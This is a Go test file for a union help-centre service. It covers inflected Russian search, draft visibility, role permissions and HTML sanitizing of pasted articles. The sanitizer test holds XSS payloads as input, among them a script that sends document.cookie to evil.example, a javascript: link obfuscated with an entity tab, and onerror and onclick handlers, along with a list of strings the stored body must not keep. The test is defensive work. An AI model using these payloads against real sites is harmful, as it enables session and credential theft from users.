package helpcentre

import (
	"bytes"
	"context"
	"errors"
	"io"
	"log/slog"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/profhub/profhub/internal/security/access"
	"github.com/profhub/profhub/internal/storage/db"
	"github.com/profhub/profhub/internal/storage/db/dbtest"
	"github.com/profhub/profhub/internal/storage/kv"
	"github.com/profhub/profhub/internal/storage/kv/kvtest"
	"github.com/profhub/profhub/org"
	"github.com/profhub/profhub/web/i18n"
)

var (
	admin     = access.Scope{UserID: "u-admin", UserName: "Админ", Role: access.Administrator, UnitID: "r", UnitPath: "/r/", From: "test"}
	secretary = access.Scope{UserID: "u-sec", UserName: "Секретарь", Role: access.Secretary, UnitID: "r", UnitPath: "/r/", From: "test"}
	operator  = access.Scope{UserID: "u-op", UserName: "Оператор", Role: access.Operator, UnitID: "r", UnitPath: "/r/", From: "test"}
)

// syncBuffer is a log sink tests read while the service writes.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}
func (s *syncBuffer) String() string { s.mu.Lock(); defer s.mu.Unlock(); return s.b.String() }

// people makes the unit and the staff of the scopes above in d (the
// audit log refers to them).
func people(t *testing.T, d *db.DB) {
	t.Helper()
	ctx := context.Background()
	o := org.NewStore(d)
	root, err := o.EnsureRoot(ctx, "Федерация")
	if err != nil {
		t.Fatal(err)
	}
	for _, sc := range []*access.Scope{&admin, &secretary, &operator} {
		u, err := o.CreateUser(ctx, access.System("test"), org.NewUser{Login: string(sc.Role), FullName: sc.UserName, Role: sc.Role, UnitID: root.ID, PasswordHash: "x"})
		if err != nil {
			t.Fatal(err)
		}
		sc.UserID, sc.UnitID, sc.UnitPath = u.ID, root.ID, root.Path
	}
}

func newService(t *testing.T, d *db.DB, k *kv.Client, log io.Writer) *Service {
	t.Helper()
	people(t, d)
	if log == nil {
		log = io.Discard
	}
	return New(Deps{DB: d, KV: k, Log: slog.New(slog.NewTextHandler(log, nil)), BaseURL: "https://hub.example.org",
		Translate: i18n.T, Negotiate: i18n.Negotiate})
}

func mustCategory(t *testing.T, s *Service, name string) Category {
	t.Helper()
	c, err := s.CreateCategory(context.Background(), admin, name)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func mustArticle(t *testing.T, s *Service, cat, title, body string, st Status) Article {
	t.Helper()
	saved, err := s.SaveArticle(context.Background(), secretary, "", Input{CategoryID: cat, Title: title, Body: body, Status: st})
	if err != nil {
		t.Fatal(err)
	}
	return saved.Article
}

func titles(hits []Hit) []string {
	out := make([]string, len(hits))
	for i, h := range hits {
		out[i] = h.Title
	}
	return out
}

// TestWordFormsAndScope: a visitor finds published articles by other
// forms of their words, a title match above a text match; drafts are the
// editors'; only help.edit edits, and a category with articles stays.
func TestWordFormsAndScope(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		s := newService(t, d, kvtest.Open(t), nil)
		dues := mustCategory(t, s, "Взносы")
		legal := mustCategory(t, s, "Юридическая помощь")
		pay := mustArticle(t, s, dues.ID, "Как платить членские взносы", "<p>Удержание из зарплаты по заявлению.</p>", Published)
		aid := mustArticle(t, s, legal.ID, "Материальная помощь", "<p>Помощь не зависит от размера взносов, если нет долга.</p>", Published)
		draft := mustArticle(t, s, dues.ID, "Взносы неработающих пенсионеров", "<p>Готовится.</p>", Draft)

		for _, q := range []string{"взнос", "взносам", "Взносов", "ВЗНОСЫ", "членских взносах"} {
			hits, err := s.Search(ctx, publicScope, q, 10)
			if err != nil {
				t.Fatal(err)
			}
			if got := titles(hits); !slices.Equal(got, []string{pay.Title, aid.Title}) {
				t.Errorf("%q found %q, want the title match, then the text match, and no draft", q, got)
			}
		}
		if hits, _ := s.Search(ctx, publicScope, "зарплате", 10); len(hits) != 1 || hits[0].ID != pay.ID ||
			hits[0].URL != "https://hub.example.org/help/a/"+pay.ID || !strings.Contains(hits[0].Excerpt, "Удержание") {
			t.Errorf("a word of the text: %+v", hits)
		}
		if hits, _ := s.Search(ctx, admin, "взносами", 10); len(hits) != 3 {
			t.Errorf("an editor finds drafts too: %q", titles(hits))
		}
		if hits, _ := s.Suggest(ctx, "взно"); len(hits) != 2 {
			t.Errorf("a word being typed: %q", titles(hits))
		}
		if hits, _ := s.Search(ctx, publicScope, "и в на", 10); len(hits) != 0 {
			t.Errorf("stop words alone find nothing: %q", titles(hits))
		}
		if _, err := s.Article(ctx, publicScope, draft.ID); !errors.Is(err, db.ErrNotFound) {
			t.Errorf("a visitor opened a draft: %v", err)
		}
		if _, err := s.Article(ctx, operator, draft.ID); !errors.Is(err, db.ErrNotFound) {
			t.Errorf("an operator opened a draft: %v", err)
		}
		if a, err := s.Article(ctx, secretary, draft.ID); err != nil || a.Status != Draft {
			t.Errorf("a secretary edits drafts: %+v %v", a, err)
		}
		cats, _ := s.Categories(ctx, publicScope)
		if len(cats) != 2 || cats[0].Articles != 1 || cats[1].Articles != 1 {
			t.Errorf("visitor's categories count published articles: %+v", cats)
		}
		if _, err := s.CreateCategory(ctx, operator, "Чужой"); !errors.Is(err, access.ErrForbidden) {
			t.Errorf("an operator created a category: %v", err)
		}
		if _, err := s.SaveArticle(ctx, operator, pay.ID, Input{CategoryID: dues.ID, Title: "x", Body: "x"}); !errors.Is(err, access.ErrForbidden) {
			t.Errorf("an operator edited an article: %v", err)
		}
		if err := s.DeleteCategory(ctx, admin, dues.ID); !errors.Is(err, db.ErrConflict) {
			t.Errorf("a category with articles (a draft among them) was deleted: %v", err)
		}
		if c, err := s.RenameCategory(ctx, secretary, legal.ID, "Правовая помощь"); err != nil || c.Name != "Правовая помощь" {
			t.Errorf("rename: %+v %v", c, err)
		}
		// Unpublishing takes the article out of the visitor's search; a
		// deleted article and then its empty category go.
		if _, err := s.SaveArticle(ctx, secretary, aid.ID, Input{CategoryID: legal.ID, Title: aid.Title, Body: aid.Body, Status: Draft}); err != nil {
			t.Fatal(err)
		}
		if hits, _ := s.Search(ctx, publicScope, "взносов", 10); len(hits) != 1 {
			t.Errorf("after unpublishing: %q", titles(hits))
		}
		if err := s.DeleteArticle(ctx, admin, aid.ID); err != nil {
			t.Fatal(err)
		}
		if err := s.DeleteCategory(ctx, admin, legal.ID); err != nil {
			t.Errorf("an empty category: %v", err)
		}
		if _, err := s.SaveArticle(ctx, admin, "", Input{CategoryID: legal.ID, Title: "Т", Body: "<p>т</p>"}); err == nil {
			t.Error("an article saved into a deleted category")
		}
	})
}

// TestHostileHTML: what could act is removed from a pasted article, the
// formatting stays, and the removal is logged and audited.
func TestHostileHTML(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		var log syncBuffer
		s := newService(t, d, kvtest.Open(t), &log)
		c := mustCategory(t, s, "Членство")
		in := `<h2 style="color:red">Как вступить</h2><p onclick="steal()">Напишите <b>заявление</b>.</p>` +
			`<script>document.location='https://evil.example/'+document.cookie</script>` +
			`<a href="java&#x09;script:alert(1)">форма</a> <a href="https://union.example/form.pdf">бланк</a>` +
			`<iframe src="https://evil.example"></iframe><img src=x onerror="alert(1)"><form action="https://evil.example"><input name=p></form>` +
			`<div class="x">Срок — <i>неделя</i>.</div>`
		saved, err := s.SaveArticle(ctx, secretary, "", Input{CategoryID: c.ID, Title: "Вступление в профсоюз", Body: in, Status: Published})
		if err != nil {
			t.Fatal(err)
		}
		body := strings.ToLower(saved.Article.Body)
		for _, bad := range []string{"<script", "onclick", "javascript", "<iframe", "onerror", "<img", "<form", "<input", "style=", "evil.example", "steal"} {
			if strings.Contains(body, bad) {
				t.Errorf("stored body keeps %q: %s", bad, saved.Article.Body)
			}
		}
		for _, good := range []string{"<h2>как вступить</h2>", "<b>заявление</b>", `href="https://union.example/form.pdf"`, "<i>неделя</i>"} {
			if !strings.Contains(body, good) {
				t.Errorf("stored body lost %q: %s", good, saved.Article.Body)
			}
		}
		want := []string{"action", "form", "href=javascript:", "iframe", "img", "input", "onclick", "onerror", "script", "src", "style"}
		if !slices.Equal(saved.Removed, want) {
			t.Errorf("removed = %q, want %q", saved.Removed, want)
		}
		if l := log.String(); !strings.Contains(l, "hostile HTML removed") || !strings.Contains(l, saved.Article.ID) || !strings.Contains(l, "Секретарь") {
			t.Errorf("the removal is not logged: %s", l)
		}
		var details string
		if err := d.QueryRowContext(ctx, `SELECT details FROM audit_log WHERE action = 'help.article_create' AND object_id = $1`, saved.Article.ID).Scan(&details); err != nil ||
			!strings.Contains(details, "hostile_removed") {
			t.Errorf("audit: %q %v", details, err)
		}
		// A clean text is saved without a word in the log.
		before := log.String()
		clean, err := s.SaveArticle(ctx, secretary, saved.Article.ID, Input{CategoryID: c.ID, Title: "Вступление", Body: "<p>Просто <em>текст</em>.</p>", Status: Published})
		if err != nil || len(clean.Removed) != 0 || log.String() != before {
			t.Errorf("a clean save: %+v %v; log grew: %v", clean.Removed, err, log.String() != before)
		}
		if _, err := s.SaveArticle(ctx, secretary, "", Input{CategoryID: c.ID, Title: "Пусто", Body: "<script>x()</script>"}); err == nil {
			t.Error("an article of nothing but a script was saved")
		}
	})
}
